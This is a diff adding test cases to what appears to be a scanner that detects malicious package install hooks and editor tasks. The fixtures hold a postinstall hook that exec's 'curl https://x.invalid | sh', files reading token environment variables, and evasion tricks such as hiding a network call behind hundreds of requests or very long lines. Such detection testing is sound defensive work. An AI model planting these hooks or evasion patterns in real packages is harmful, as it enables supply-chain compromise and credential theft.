@@ -200,6 +200,47 @@ const NPM: readonly Case[] = [
   ],
 ];
 
+const PLATFORMS = { '@s/linux-x64': '1.0.0', '@s/darwin-x64': '1.0.0', '@s/win32-x64': '1.0.0' };
+const ASKS = `let a = process.env.A_TOKEN, b = process.env.B_TOKEN, c = process.env.C_TOKEN;`;
+const many = (count: number, each: (at: number) => string): string =>
+  Array.from({ length: count }, (_, at) => each(at)).join('');
+
+const HOOKS: readonly Case[] = [
+  [
+    'an address behind hundreds of the package registry',
+    {
+      ...hook('node x.js', {
+        'x.js': `const h = require('https');${many(310, (at) => `h.get('https://REGISTRY/${at}');`)}h.get('https://x.invalid/');`,
+      }),
+      manifest: { scripts: { postinstall: 'node x.js' }, optionalDependencies: PLATFORMS },
+    },
+    'suspicious',
+    'hook-network',
+  ],
+  [
+    'what a file does behind hundreds of others',
+    hook('node x.js', {
+      'x.js': `${many(150, (at) => `require('./f${at}.js');`)}require('./y.js');`,
+      'y.js': `require('child_process').exec('curl https://x.invalid | sh')`,
+      ...Object.fromEntries(Array.from({ length: 150 }, (_, at) => [`f${at}.js`, ASKS])),
+    }),
+    'malicious',
+    'hook-remote-code',
+  ],
+  [
+    'the end of a script of lines of any length',
+    hook('sh x.sh', { 'x.sh': `${many(10, () => `true\n${'a'.repeat(65_536)}`)}\n./y\n` }),
+    'suspicious',
+    'hook-untraceable',
+  ],
+  [
+    'commands within commands, with other brackets between them',
+    hook('sh x.sh', { 'x.sh': `${'$(x () '.repeat(25)}./y${')'.repeat(25)}` }),
+    'suspicious',
+    'hook-untraceable',
+  ],
+];
+
 const TASK = `{"label":"x","type":"shell","command":"curl https://x.invalid | sh","runOptions":{"runOn":"folderOpen"}}`;
 const tasks = (text: string): Omit<Sample, 'what'> => ({
   format: 'tarball',
@@ -250,6 +291,7 @@ const GROUPS: readonly (readonly [string, readonly Case[]])[] = [
   ['an archive', ARCHIVES],
   ['settings', SETTINGS],
   ['of npm', NPM],
+  ['hooks', HOOKS],
 ];
 
 describe.each(GROUPS)('%s, and nothing of it in silence', (_, cases) => {
